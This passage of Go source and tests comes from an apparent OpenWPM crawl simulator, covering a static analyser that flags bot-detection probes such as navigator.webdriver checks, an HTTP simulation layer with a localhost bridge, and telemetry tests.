		{"array join", `navigator[["web","driver"].join("")];`, true, 1},
		{"alias chain", `var w = window;
var nav = w.navigator;
var key = "web" + "driver";
nav[key];`, true, 4},
		{"this receiver", `this["navigator"]["web" + "driver"];`, true, 1},
		{"tutorial variable", `var webdriverTutorialURL = 1;`, false, 0},
		{"unknown receiver, literal index", `foo["webdriver"];`, false, 0},
		{"reassigned alias not folded", `var p = "webdriver";
p = "other";
bar[p];`, false, 0},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			rep := Analyze(tc.src)
			if got := rep.Has(RuleWebdriverProbe); got != tc.want {
				t.Fatalf("Has(webdriver-probe) = %v, want %v (findings %+v)", got, tc.want, rep.Findings)
			}
			if tc.want {
				found := false
				for _, f := range rep.Findings {
					if f.Rule == RuleWebdriverProbe && f.Line == tc.line {
						found = true
					}
				}
				if !found {
					t.Errorf("no probe finding on line %d: %+v", tc.line, rep.Findings)
				}
			}
		})
	}
}

func TestToStringLeakRule(t *testing.T) {
	cases := []struct {
		name string
		src  string
		want bool
	}{
		{"indexOf probe", `var s = fn.toString();
if (s.indexOf("[native code]") < 0) { flag(); }`, true},
		{"includes probe", `fn.toString().includes("[nat" + "ive code]");`, true},
		{"comparison", `if (Function.prototype.toString.call(fn) === "function get() { [native code] }") {}`, true},
		{"split native marker", `var probe = "[native" + " code]";
if (src.indexOf(probe) === -1) { flag(); }`, true},
		{"function prototype access", `var t = Function.prototype.toString;`, true},
		{"benign toString", `var s = (42).toString();`, false},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if got := Analyze(tc.src).Has(RuleToStringLeak); got != tc.want {
				t.Fatalf("Has(tostring-leak) = %v, want %v", got, tc.want)
			}
		})
	}
}

func TestDescriptorReadRule(t *testing.T) {
	src := `var d = Object.getOwnPropertyDescriptor(Object.getPrototypeOf(navigator), "userAgent");
if (d && d.get) { check(d.get); }`
	rep := Analyze(src)
	if !rep.Has(RuleDescriptorRead) {
		t.Fatalf("descriptor read not flagged: %+v", rep.Findings)
	}
	for _, f := range rep.Findings {
		if f.Rule == RuleDescriptorRead {
			if f.Line != 1 {
				t.Errorf("descriptor finding line = %d, want 1", f.Line)
			}
			if f.Detail != "userAgent" {
				t.Errorf("descriptor detail = %q, want userAgent", f.Detail)
			}
		}
	}
	if Analyze(`var x = Object.keys(obj);`).Has(RuleDescriptorRead) {
		t.Error("Object.keys on unknown object should not be a descriptor read")
	}
}

func TestStackIntrospectionRule(t *testing.T) {
	src := `try { boom(); } catch (e) { report(e.stack); }`
	if !Analyze(src).Has(RuleStackIntrospection) {
		t.Error("catch-variable stack read not flagged")
	}
	if !Analyze(`var s = new Error("probe").stack;`).Has(RuleStackIntrospection) {
		t.Error("new Error().stack not flagged")
	}
	if Analyze(`var s = pancake.stack;`).Has(RuleStackIntrospection) {
		t.Error("arbitrary .stack read should not be flagged")
	}
}

func TestHoneyEnumerationRule(t *testing.T) {
	if !Analyze(`for (var k in navigator) { seen.push(k); }`).Has(RuleHoneyEnumeration) {
		t.Error("for-in over navigator not flagged")
	}
	if !Analyze(`var ks = Object.getOwnPropertyNames(window);`).Has(RuleHoneyEnumeration) {
		t.Error("getOwnPropertyNames(window) not flagged")
	}
	if Analyze(`for (var k in localData) { f(k); }`).Has(RuleHoneyEnumeration) {
		t.Error("for-in over a local object should not be flagged")
	}
}

func TestPrototypeWalkRule(t *testing.T) {
	src := `var o = navigator;
while (o) { inspect(o); o = Object.getPrototypeOf(o); }`
	if !Analyze(src).Has(RulePrototypeWalk) {
		t.Error("in-loop getPrototypeOf not flagged")
	}
	if Analyze(`var p = Object.getPrototypeOf(navigator);`).Has(RulePrototypeWalk) {
		t.Error("single getPrototypeOf should not be a prototype walk")
	}
}

func TestOpenWPMMarkerRule(t *testing.T) {
	cases := []struct {
		src    string
		detail string
	}{
		{`if (typeof window.getInstrumentJS !== "undefined") { bail(); }`, "getInstrumentJS"},
		{`window["jsInstr" + "uments"];`, "jsInstruments"},
		{`if (typeof instrumentFingerprintingApis === "function") { bail(); }`, "instrumentFingerprintingApis"},
	}
	for _, tc := range cases {
		rep := Analyze(tc.src)
		if !rep.Has(RuleOpenWPMMarker) {
			t.Errorf("marker not flagged in %q", tc.src)
			continue
		}
		found := false
		for _, f := range rep.Findings {
			if f.Rule == RuleOpenWPMMarker && f.Detail == tc.detail {
				found = true
			}
		}
		if !found {
			t.Errorf("marker detail %q missing in findings for %q: %+v", tc.detail, tc.src, rep.Findings)
		}
	}
}

func TestUnparsableSourceFallsBackToRegex(t *testing.T) {
	src := `navigator.webdriver ===` // truncated: parse error
	rep := Analyze(src)
	if rep.Parsed {
		t.Fatal("truncated source should not parse")
	}
	if !rep.Has(RuleWebdriverProbe) {
		t.Fatal("regex fallback should still flag navigator.webdriver")
	}
	for _, f := range rep.Findings {
		if f.Rule == RuleWebdriverProbe && f.Detail != "regex-fallback" {
			t.Errorf("fallback finding detail = %q, want regex-fallback", f.Detail)
		}
	}
	if !AnalyzeStatic(src).SeleniumDetector {
		t.Error("AnalyzeStatic should classify via fallback")
	}
}

// TestAnalyzeHostileCorpus runs the walker over the same adversarial shapes
// the minjs edge tests use: deep nesting, huge concat chains, self
// reference, prototype cycles, for-in mutation. Analyze must neither panic
// nor hang.
func TestAnalyzeHostileCorpus(t *testing.T) {
	deep := strings.Repeat("(", 60) + "1" + strings.Repeat(")", 60) + ";"
	nest := "var x = 0;\n"
	for i := 0; i < 120; i++ {
		nest += "if (x === 0) {\n"
	}
	nest += "x = 1;\n" + strings.Repeat("}\n", 120)
	concat := `var s = "a"` + strings.Repeat(` + "a"`, 500) + ";\nnavigator[s];"
	corpus := []string{
		deep,
		nest,
		concat,
		`var a = {}; a.self = a; for (var k in a) { a[k] = a; }`,
		`var o = {}; o.p = o; while (false) { Object.getPrototypeOf(o); }`,
		`var f = function f() { return f; }; f();`,
		`try { throw { stack: 1 }; } catch (e) { e.stack; e.stack; }`,
		`var u; var v = u + "webdriver"; q[v];`,
		"",
		"// only a comment",
		"\"just a string\";",
	}
	for i, src := range corpus {
		rep := Analyze(src)
		_ = rep.Rules()
		if rep.Findings == nil && rep.Has("nope") {
			t.Errorf("corpus %d: impossible state", i)
		}
	}
}

// Analyze must never panic and must be deterministic on arbitrary inputs.
func TestQuickAnalyzeTotalAndDeterministic(t *testing.T) {
	f := func(src string) bool {
		a := Analyze(src)
		b := Analyze(src)
		return reflect.DeepEqual(a, b)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

func TestReportRulesOrderedAndDeduped(t *testing.T) {
	rep := TamperReport{Findings: []Finding{
		{Rule: RuleToStringLeak, Line: 9},
		{Rule: RuleWebdriverProbe, Line: 3},
		{Rule: RuleWebdriverProbe, Line: 5},
	}}
	got := rep.Rules()
	want := []string{RuleWebdriverProbe, RuleToStringLeak}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("Rules() = %v, want %v", got, want)
	}
}
