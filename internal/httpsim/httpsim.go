// Package httpsim models the HTTP layer between the simulated browser and
// the simulated web: requests with WebExtension resource types, responses
// with cookies and security headers, and a RoundTripper interface that an
// in-process web (package websim) or a real net/http client can implement.
package httpsim

import (
	"fmt"
	"sort"
	"strings"
)

// ResourceType mirrors the WebExtension webRequest ResourceType values used
// by OpenWPM's HTTP instrument (see Table 8 of the paper).
type ResourceType string

// Resource types, ordered roughly by Table 8.
const (
	TypeMainFrame  ResourceType = "main_frame"
	TypeSubFrame   ResourceType = "sub_frame"
	TypeScript     ResourceType = "script"
	TypeImage      ResourceType = "image"
	TypeImageset   ResourceType = "imageset"
	TypeStylesheet ResourceType = "stylesheet"
	TypeFont       ResourceType = "font"
	TypeMedia      ResourceType = "media"
	TypeXHR        ResourceType = "xmlhttprequest"
	TypeBeacon     ResourceType = "beacon"
	TypeWebsocket  ResourceType = "websocket"
	TypeObject     ResourceType = "object"
	TypeCSPReport  ResourceType = "csp_report"
	TypeOther      ResourceType = "other"
)

// AllResourceTypes lists every resource type in a stable order.
var AllResourceTypes = []ResourceType{
	TypeCSPReport, TypeMedia, TypeBeacon, TypeWebsocket, TypeXHR,
	TypeImageset, TypeFont, TypeObject, TypeMainFrame, TypeImage,
	TypeScript, TypeSubFrame, TypeOther, TypeStylesheet,
}

// Request is one HTTP request issued by a browser.
type Request struct {
	Method   string
	URL      string
	Type     ResourceType
	Headers  map[string]string
	Body     string
	ClientID string // stable per-machine identity (stands in for the client IP)
	TopURL   string // URL of the top-level document that caused this request
	Time     float64
}

// Response is the server's answer.
type Response struct {
	Status     int
	Headers    map[string]string
	Body       string
	SetCookies []Cookie
	// DelaySeconds is the server-side latency of this response in virtual
	// seconds. The browser charges it to its virtual clock, which is how
	// tarpits interact with visit watchdogs.
	DelaySeconds float64
}

// Header returns a response header (case-insensitive on common casings).
func (r *Response) Header(name string) string {
	if r.Headers == nil {
		return ""
	}
	if v, ok := r.Headers[name]; ok {
		return v
	}
	return r.Headers[strings.ToLower(name)]
}

// RoundTripper serves responses for requests; websim.World implements it
// in-process and adapters can bridge to net/http.
type RoundTripper interface {
	RoundTrip(*Request) (*Response, error)
}

// RoundTripperFunc adapts a function to RoundTripper.
type RoundTripperFunc func(*Request) (*Response, error)

// RoundTrip calls f.
func (f RoundTripperFunc) RoundTrip(r *Request) (*Response, error) { return f(r) }

// Cookie is an HTTP cookie with virtual-time expiry.
type Cookie struct {
	Name    string
	Value   string
	Domain  string // host that set it (registrable domain)
	Path    string
	Expires float64 // virtual seconds since epoch; 0 ⇒ session cookie
	Secure  bool
	HTTP    bool // HttpOnly
}

// Session reports whether c expires with the browsing session.
func (c Cookie) Session() bool { return c.Expires == 0 }

// String renders the cookie as a Set-Cookie value.
func (c Cookie) String() string {
	var b strings.Builder
	fmt.Fprintf(&b, "%s=%s", c.Name, c.Value)
	if c.Domain != "" {
		fmt.Fprintf(&b, "; Domain=%s", c.Domain)
	}
	if c.Expires != 0 {
		fmt.Fprintf(&b, "; Max-Age=%d", int64(c.Expires))
	}
	if c.Secure {
		b.WriteString("; Secure")
	}
	if c.HTTP {
		b.WriteString("; HttpOnly")
	}
	return b.String()
}

// URLParts splits a simplified absolute URL ("https://host/path?query") into
// scheme, host and path. Relative URLs return an empty host.
func URLParts(url string) (scheme, host, path string) {
	rest := url
	if i := strings.Index(rest, "://"); i >= 0 {
		scheme = rest[:i]
		rest = rest[i+3:]
	} else {
		return "", "", url // relative
	}
	if i := strings.IndexByte(rest, '/'); i >= 0 {
		host, path = rest[:i], rest[i:]
	} else {
		host, path = rest, "/"
	}
	return scheme, host, path
}

// Host extracts the host of an absolute URL, or "" for relative URLs.
func Host(url string) string {
	_, h, _ := URLParts(url)
	return h
}

// Path extracts the path component.
func Path(url string) string {
	_, _, p := URLParts(url)
	return p
}

// Resolve resolves a possibly relative ref against a base URL.
func Resolve(base, ref string) string {
	if strings.Contains(ref, "://") {
		return ref
	}
	scheme, host, basePath := URLParts(base)
	if scheme == "" {
		return ref
	}
	if strings.HasPrefix(ref, "/") {
		return scheme + "://" + host + ref
	}
	dir := basePath
	if i := strings.LastIndexByte(dir, '/'); i >= 0 {
		dir = dir[:i+1]
	}
	return scheme + "://" + host + dir + ref
}

// ETLDPlusOne approximates the registrable domain (eTLD+1) of a host using a
// small embedded suffix list: the synthetic web only uses these suffixes.
func ETLDPlusOne(host string) string {
	host = strings.ToLower(strings.TrimSuffix(host, "."))
	labels := strings.Split(host, ".")
	if len(labels) <= 2 {
		return host
	}
	// two-level public suffixes used by the simulation
	last2 := strings.Join(labels[len(labels)-2:], ".")
	if multiLevelSuffixes[last2] {
		if len(labels) >= 3 {
			return strings.Join(labels[len(labels)-3:], ".")
		}
		return host
	}
	return last2
}

var multiLevelSuffixes = map[string]bool{
	"co.uk": true, "com.br": true, "com.cn": true, "co.jp": true,
	"com.au": true, "co.in": true, "org.uk": true,
}

// SameSite reports whether two URLs share an eTLD+1.
func SameSite(a, b string) bool {
	return ETLDPlusOne(Host(a)) == ETLDPlusOne(Host(b))
}

// Log is an append-only request log shared by instruments and tests.
type Log struct {
	Entries []LogEntry
}

// LogEntry pairs a request with its response status.
type LogEntry struct {
	Request  Request
	Status   int
	BodySize int
	CType    string
}

// Add appends a request/response pair.
func (l *Log) Add(req *Request, resp *Response) {
	e := LogEntry{Request: *req}
	if resp != nil {
		e.Status = resp.Status
		e.BodySize = len(resp.Body)
		e.CType = resp.Header("Content-Type")
	}
	l.Entries = append(l.Entries, e)
}

// CountByType tallies requests per resource type.
func (l *Log) CountByType() map[ResourceType]int {
	out := map[ResourceType]int{}
	for _, e := range l.Entries {
		out[e.Request.Type]++
	}
	return out
}

// URLs returns all requested URLs in order.
func (l *Log) URLs() []string {
	out := make([]string, len(l.Entries))
	for i, e := range l.Entries {
		out[i] = e.Request.URL
	}
	return out
}

// DistinctHosts returns the sorted set of requested hosts.
func (l *Log) DistinctHosts() []string {
	set := map[string]bool{}
	for _, e := range l.Entries {
		set[Host(e.Request.URL)] = true
	}
	out := make([]string, 0, len(set))
	for h := range set {
		out = append(out, h)
	}
	sort.Strings(out)
	return out
}
