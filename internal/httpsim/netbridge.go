package httpsim

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
)

// The net/http bridge lets the simulated web run behind a real TCP socket:
// Handler serves any RoundTripper over HTTP, and NetTransport is a
// RoundTripper that forwards requests to such a server. The simulated
// browser then crawls through genuine network I/O (examples/serve-web).

// wireRequest is the on-the-wire request encoding.
type wireRequest struct {
	Method   string            `json:"method"`
	URL      string            `json:"url"`
	Type     string            `json:"type"`
	Headers  map[string]string `json:"headers,omitempty"`
	Body     string            `json:"body,omitempty"`
	ClientID string            `json:"client_id"`
	TopURL   string            `json:"top_url"`
	Time     float64           `json:"time"`
}

// wireResponse is the on-the-wire response encoding.
type wireResponse struct {
	Status     int               `json:"status"`
	Headers    map[string]string `json:"headers,omitempty"`
	Body       string            `json:"body,omitempty"`
	SetCookies []Cookie          `json:"set_cookies,omitempty"`
	Error      string            `json:"error,omitempty"`
}

// Handler adapts a RoundTripper (e.g. a websim.World) into an http.Handler.
type Handler struct {
	RT RoundTripper
}

// ServeHTTP implements http.Handler: it decodes a wireRequest from the body,
// serves it through the wrapped RoundTripper and encodes the response.
func (h Handler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	defer r.Body.Close()
	body, err := io.ReadAll(io.LimitReader(r.Body, 1<<20))
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	var wr wireRequest
	if err := json.Unmarshal(body, &wr); err != nil {
		http.Error(w, "bad wire request: "+err.Error(), http.StatusBadRequest)
		return
	}
	req := &Request{
		Method:   wr.Method,
		URL:      wr.URL,
		Type:     ResourceType(wr.Type),
		Headers:  wr.Headers,
		Body:     wr.Body,
		ClientID: wr.ClientID,
		TopURL:   wr.TopURL,
		Time:     wr.Time,
	}
	var out wireResponse
	resp, err := h.RT.RoundTrip(req)
	if err != nil {
		out.Error = err.Error()
	} else {
		out = wireResponse{Status: resp.Status, Headers: resp.Headers, Body: resp.Body, SetCookies: resp.SetCookies}
	}
	w.Header().Set("Content-Type", "application/json")
	// a failed response write means the bridge client hung up; it surfaces
	// the broken connection as a wire error on its own side
	_ = json.NewEncoder(w).Encode(out)
}

// NetTransport is a RoundTripper that forwards every request over real HTTP
// to a Handler-backed server.
type NetTransport struct {
	// Endpoint is the bridge server URL, e.g. "http://127.0.0.1:8080/".
	Endpoint string
	// Client defaults to http.DefaultClient.
	Client *http.Client
}

// RoundTrip implements RoundTripper over the wire.
func (t *NetTransport) RoundTrip(req *Request) (*Response, error) {
	payload, err := json.Marshal(wireRequest{
		Method: req.Method, URL: req.URL, Type: string(req.Type),
		Headers: req.Headers, Body: req.Body,
		ClientID: req.ClientID, TopURL: req.TopURL, Time: req.Time,
	})
	if err != nil {
		return nil, err
	}
	client := t.Client
	if client == nil {
		client = http.DefaultClient
	}
	httpResp, err := client.Post(t.Endpoint, "application/json", bytes.NewReader(payload))
	if err != nil {
		return nil, fmt.Errorf("httpsim: bridge request failed: %w", err)
	}
	defer httpResp.Body.Close()
	var out wireResponse
	if err := json.NewDecoder(httpResp.Body).Decode(&out); err != nil {
		return nil, fmt.Errorf("httpsim: bad bridge response: %w", err)
	}
	if out.Error != "" {
		return nil, fmt.Errorf("httpsim: remote: %s", out.Error)
	}
	return &Response{Status: out.Status, Headers: out.Headers, Body: out.Body, SetCookies: out.SetCookies}, nil
}
