package httpsim

import (
	"gullible/internal/telemetry"
)

// meter instruments a RoundTripper with per-exchange telemetry: exchange
// counts by resource type, error counts, body bytes and the server-latency
// distribution. Counters are resolved once at construction, so the per-
// request cost is a handful of atomic adds.
type meter struct {
	next    RoundTripper
	byType  map[ResourceType]*telemetry.Counter
	other   *telemetry.Counter
	errors  *telemetry.Counter
	bytes   *telemetry.Counter
	latency *telemetry.Histogram
}

// storageFaulter is the optional storage-fault capability some transports
// (the fault injector, recorder wrappers) expose; package openwpm sniffs it.
type storageFaulter interface {
	StorageFault(table string) bool
}

// faultMeter is a meter whose underlying transport has the StorageFault
// capability; it forwards the hook so wrapping does not hide it.
type faultMeter struct {
	meter
	sf storageFaulter
}

// StorageFault delegates to the wrapped transport's fault hook.
func (m *faultMeter) StorageFault(table string) bool { return m.sf.StorageFault(table) }

// Meter wraps rt so every HTTP exchange feeds the telemetry registry. With
// nil telemetry (or nil rt) the transport is returned unwrapped, so the
// disabled path costs nothing. If rt exposes StorageFault(table) bool the
// wrapper preserves it.
func Meter(rt RoundTripper, tel *telemetry.Telemetry) RoundTripper {
	if tel == nil || rt == nil {
		return rt
	}
	m := meter{
		next:    rt,
		byType:  make(map[ResourceType]*telemetry.Counter, len(AllResourceTypes)),
		other:   tel.Counter("http_exchanges_total", telemetry.L("type", "unknown")),
		errors:  tel.Counter("http_errors_total"),
		bytes:   tel.Counter("http_body_bytes_total"),
		latency: tel.Histogram("http_delay_seconds", telemetry.SecondsBuckets),
	}
	for _, t := range AllResourceTypes {
		m.byType[t] = tel.Counter("http_exchanges_total", telemetry.L("type", string(t)))
	}
	if sf, ok := rt.(storageFaulter); ok {
		return &faultMeter{meter: m, sf: sf}
	}
	return &m
}

// RoundTrip implements RoundTripper.
func (m *meter) RoundTrip(req *Request) (*Response, error) {
	c, ok := m.byType[req.Type]
	if !ok {
		c = m.other
	}
	c.Inc()
	resp, err := m.next.RoundTrip(req)
	if err != nil {
		m.errors.Inc()
		return resp, err
	}
	if resp != nil {
		m.bytes.Add(int64(len(resp.Body)))
		if resp.DelaySeconds > 0 {
			m.latency.Observe(resp.DelaySeconds)
		}
	}
	return resp, nil
}
