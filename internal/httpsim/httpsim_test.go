package httpsim

import (
	"net"
	"net/http"
	"testing"
	"testing/quick"
)

func TestURLParts(t *testing.T) {
	cases := []struct {
		url                string
		scheme, host, path string
	}{
		{"https://a.com/x/y?z=1", "https", "a.com", "/x/y?z=1"},
		{"http://a.com", "http", "a.com", "/"},
		{"https://sub.a.co.uk/p", "https", "sub.a.co.uk", "/p"},
		{"/relative/path", "", "", "/relative/path"},
	}
	for _, c := range cases {
		s, h, p := URLParts(c.url)
		if s != c.scheme || h != c.host || p != c.path {
			t.Errorf("URLParts(%q) = (%q, %q, %q), want (%q, %q, %q)",
				c.url, s, h, p, c.scheme, c.host, c.path)
		}
	}
}

func TestResolve(t *testing.T) {
	cases := []struct{ base, ref, want string }{
		{"https://a.com/dir/page", "/abs", "https://a.com/abs"},
		{"https://a.com/dir/page", "rel.js", "https://a.com/dir/rel.js"},
		{"https://a.com/", "https://b.com/x", "https://b.com/x"},
		{"https://a.com", "/x", "https://a.com/x"},
	}
	for _, c := range cases {
		if got := Resolve(c.base, c.ref); got != c.want {
			t.Errorf("Resolve(%q, %q) = %q, want %q", c.base, c.ref, got, c.want)
		}
	}
}

func TestETLDPlusOne(t *testing.T) {
	cases := map[string]string{
		"www.example.com":      "example.com",
		"a.b.example.com":      "example.com",
		"example.com":          "example.com",
		"shop.example.co.uk":   "example.co.uk",
		"example.co.uk":        "example.co.uk",
		"www.site000001.co.uk": "site000001.co.uk",
		"localhost":            "localhost",
	}
	for host, want := range cases {
		if got := ETLDPlusOne(host); got != want {
			t.Errorf("ETLDPlusOne(%q) = %q, want %q", host, got, want)
		}
	}
}

func TestSameSite(t *testing.T) {
	if !SameSite("https://www.a.com/x", "https://cdn.a.com/y") {
		t.Error("subdomains of one registrable domain must be same-site")
	}
	if SameSite("https://a.com/", "https://b.com/") {
		t.Error("different domains must not be same-site")
	}
}

func TestQuickResolveAlwaysAbsolute(t *testing.T) {
	f := func(ref string) bool {
		if len(ref) > 50 {
			ref = ref[:50]
		}
		got := Resolve("https://base.example/dir/page", ref)
		s, h, _ := URLParts(got)
		return s != "" && h != ""
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

func TestCookieString(t *testing.T) {
	c := Cookie{Name: "uid", Value: "abc", Domain: "t.com", Expires: 3600, Secure: true, HTTP: true}
	s := c.String()
	for _, frag := range []string{"uid=abc", "Domain=t.com", "Max-Age=3600", "Secure", "HttpOnly"} {
		if !contains(s, frag) {
			t.Errorf("Cookie.String() = %q missing %q", s, frag)
		}
	}
	if !c.Session() == (c.Expires == 0) {
		t.Error("Session() inconsistent")
	}
}

func contains(s, sub string) bool {
	return len(s) >= len(sub) && (s == sub || len(s) > 0 && indexOf(s, sub) >= 0)
}

func indexOf(s, sub string) int {
	for i := 0; i+len(sub) <= len(s); i++ {
		if s[i:i+len(sub)] == sub {
			return i
		}
	}
	return -1
}

func TestLogTallies(t *testing.T) {
	var l Log
	l.Add(&Request{URL: "https://a.com/", Type: TypeMainFrame}, &Response{Status: 200})
	l.Add(&Request{URL: "https://a.com/x.js", Type: TypeScript}, &Response{Status: 200, Body: "x"})
	l.Add(&Request{URL: "https://b.com/p.gif", Type: TypeImage}, nil)
	counts := l.CountByType()
	if counts[TypeMainFrame] != 1 || counts[TypeScript] != 1 || counts[TypeImage] != 1 {
		t.Errorf("counts = %v", counts)
	}
	hosts := l.DistinctHosts()
	if len(hosts) != 2 || hosts[0] != "a.com" || hosts[1] != "b.com" {
		t.Errorf("hosts = %v", hosts)
	}
}

// TestNetBridgeRoundTrip serves a RoundTripper over a real socket and
// fetches through it.
func TestNetBridgeRoundTrip(t *testing.T) {
	backend := RoundTripperFunc(func(req *Request) (*Response, error) {
		if req.URL != "https://virtual.example/data" || req.ClientID != "c9" {
			t.Errorf("backend got %+v", req)
		}
		return &Response{
			Status:     200,
			Headers:    map[string]string{"Content-Type": "text/plain"},
			Body:       "over the wire",
			SetCookies: []Cookie{{Name: "k", Value: "v", Domain: "virtual.example"}},
		}, nil
	})
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	srv := &http.Server{Handler: Handler{RT: backend}}
	go srv.Serve(ln)
	defer srv.Close()

	tr := &NetTransport{Endpoint: "http://" + ln.Addr().String() + "/"}
	resp, err := tr.RoundTrip(&Request{
		Method: "GET", URL: "https://virtual.example/data",
		Type: TypeXHR, ClientID: "c9", TopURL: "https://top.example/",
	})
	if err != nil {
		t.Fatal(err)
	}
	if resp.Status != 200 || resp.Body != "over the wire" {
		t.Fatalf("resp = %+v", resp)
	}
	if len(resp.SetCookies) != 1 || resp.SetCookies[0].Name != "k" {
		t.Fatalf("cookies = %+v", resp.SetCookies)
	}
}
