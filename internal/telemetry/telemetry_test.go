package telemetry

import (
	"bytes"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

var update = flag.Bool("update", false, "rewrite golden files")

// buildSample populates a registry the same way from any goroutine order:
// the final state must be identical however the updates interleave.
func buildSample(t *Telemetry) {
	t.Counter("crawl_sites_total", L("outcome", "completed")).Add(40)
	t.Counter("crawl_sites_total", L("outcome", "failed")).Add(2)
	t.Counter("crawl_restarts_total", L("class", "hang")).Add(7)
	t.Gauge("crawl_progress_done").Set(42)
	h := t.Histogram("visit_virtual_seconds", SecondsBuckets)
	for _, v := range []float64{0.25, 3, 3, 61.5, 1200} {
		h.Observe(v)
	}
}

func TestSeriesKeySortsLabels(t *testing.T) {
	a := seriesKey("m", []Label{L("b", "2"), L("a", "1")})
	b := seriesKey("m", []Label{L("a", "1"), L("b", "2")})
	if a != b || a != "m{a=1,b=2}" {
		t.Fatalf("seriesKey not canonical: %q vs %q", a, b)
	}
	if got := seriesKey("m", nil); got != "m" {
		t.Fatalf("bare series key = %q", got)
	}
}

func TestNilSafety(t *testing.T) {
	var tel *Telemetry
	if tel.Enabled() {
		t.Fatal("nil telemetry reports enabled")
	}
	// Every operation on nil receivers must be a silent no-op.
	tel.Counter("c").Inc()
	tel.Gauge("g").Add(3)
	tel.Histogram("h", nil).Observe(1)
	span := tel.Begin("visit", 0, 0)
	if span != 0 {
		t.Fatalf("nil Begin returned span %d", span)
	}
	tel.End(span, "visit", 1)
	tel.Event(LevelError, "retry", 0, L("k", "v"))
	if s := tel.Snapshot(); s != nil {
		t.Fatalf("nil snapshot = %+v", s)
	}
	var c *Counter
	c.Add(5)
	if c.Value() != 0 {
		t.Fatal("nil counter holds a value")
	}
	var f *Flight
	f.End(f.Begin("x", 0, 0), "x", 0)
	if ev := f.Events(); ev != nil {
		t.Fatalf("nil flight has events: %v", ev)
	}
	var lg *Logger
	lg.Emit(LevelError, "x", 0)
	// Enabled telemetry without a log sink must also swallow events.
	New().Event(LevelError, "retry", 0)
}

func TestRegistryConcurrency(t *testing.T) {
	tel := New()
	c := tel.Counter("hits")
	h := tel.Histogram("lat", SecondsBuckets)
	var wg sync.WaitGroup
	const workers, per = 8, 1000
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < per; i++ {
				c.Inc()
				// resolve concurrently too: same handle every time
				tel.Counter("hits", L("worker", fmt.Sprint(w))).Inc()
				h.Observe(float64(i%10) + 0.5)
				tel.Gauge("progress").Set(int64(i))
			}
		}(w)
	}
	wg.Wait()
	s := tel.Snapshot()
	if got := s.Counters["hits"]; got != workers*per {
		t.Fatalf("hits = %d, want %d", got, workers*per)
	}
	if got := s.Total("hits"); got != 2*workers*per {
		t.Fatalf("Total(hits) = %d, want %d", got, 2*workers*per)
	}
	hs := s.Histograms["lat"]
	if hs.Count != workers*per {
		t.Fatalf("histogram count = %d, want %d", hs.Count, workers*per)
	}
	var sum int64
	for _, n := range hs.Counts {
		sum += n
	}
	if sum != hs.Count {
		t.Fatalf("bucket counts sum %d != count %d", sum, hs.Count)
	}
}

func TestSnapshotGolden(t *testing.T) {
	tel := New()
	buildSample(tel)
	data, err := tel.Snapshot().CanonicalJSON()
	if err != nil {
		t.Fatal(err)
	}
	data = append(data, '\n')
	golden := filepath.Join("testdata", "snapshot.golden.json")
	if *update {
		if err := os.WriteFile(golden, data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(data, want) {
		t.Fatalf("snapshot diverged from golden file:\n got: %s\nwant: %s", data, want)
	}

	// A second, independently built registry must serialise to the very
	// same bytes — the determinism the golden file pins down.
	tel2 := New()
	buildSample(tel2)
	data2, err := tel2.Snapshot().CanonicalJSON()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(append(data2, '\n'), want) {
		t.Fatal("identical registry state produced different canonical JSON")
	}
}

func TestSnapshotMergeAndDiff(t *testing.T) {
	a, b := New(), New()
	buildSample(a)
	buildSample(b)
	b.Counter("crawl_sites_total", L("outcome", "completed")).Add(10)

	sa, sb := a.Snapshot(), b.Snapshot()
	diff := sa.Diff(sb)
	if len(diff) != 1 || diff[0] != "counter:crawl_sites_total{outcome=completed}" {
		t.Fatalf("Diff = %v", diff)
	}
	if d := sa.Diff(a.Snapshot()); len(d) != 0 {
		t.Fatalf("self-diff = %v", d)
	}

	merged := &Snapshot{}
	merged.Merge(sa)
	merged.Merge(sb)
	if got := merged.Counters["crawl_sites_total{outcome=completed}"]; got != 90 {
		t.Fatalf("merged counter = %d, want 90", got)
	}
	hs := merged.Histograms["visit_virtual_seconds"]
	if hs.Count != 10 {
		t.Fatalf("merged histogram count = %d, want 10", hs.Count)
	}
}

func TestHistogramBuckets(t *testing.T) {
	h := NewRegistry().Histogram("h", []float64{1, 10})
	h.Observe(0.5)  // bucket ≤1
	h.Observe(1)    // ≤1 (SearchFloat64s: index of first bound ≥ v)
	h.Observe(5)    // ≤10
	h.Observe(1000) // overflow
	if h.Count() != 4 {
		t.Fatalf("count = %d", h.Count())
	}
	if h.Sum() != 1006.5 {
		t.Fatalf("sum = %v", h.Sum())
	}
}

func TestFlightRingAndTrace(t *testing.T) {
	f := NewFlight(1024)
	crawl := f.Begin("crawl", 0, 0)
	v1 := f.Begin("visit", crawl, 0, L("site", "a"))
	p1 := f.Begin("page-load", v1, 0)
	f.End(p1, "page-load", 5)
	f.End(v1, "visit", 5)
	v2 := f.Begin("visit", crawl, 5, L("site", "b"))
	f.End(v2, "visit", 9)
	f.End(crawl, "crawl", 9)

	if ids := []int64{crawl, v1, p1, v2}; ids[0] != 1 || ids[1] != 2 || ids[2] != 3 || ids[3] != 4 {
		t.Fatalf("span ids not sequential: %v", ids)
	}
	// Trace(v1) must pull the visit and its page-load, not visit b.
	tr := f.Trace(v1)
	if len(tr) != 4 {
		t.Fatalf("trace has %d events, want 4: %v", len(tr), tr)
	}
	for _, ev := range tr {
		if ev.Span == v2 {
			t.Fatal("trace leaked sibling visit")
		}
	}
	// Trace(crawl) covers everything retained.
	if got := len(f.Trace(crawl)); got != 8 {
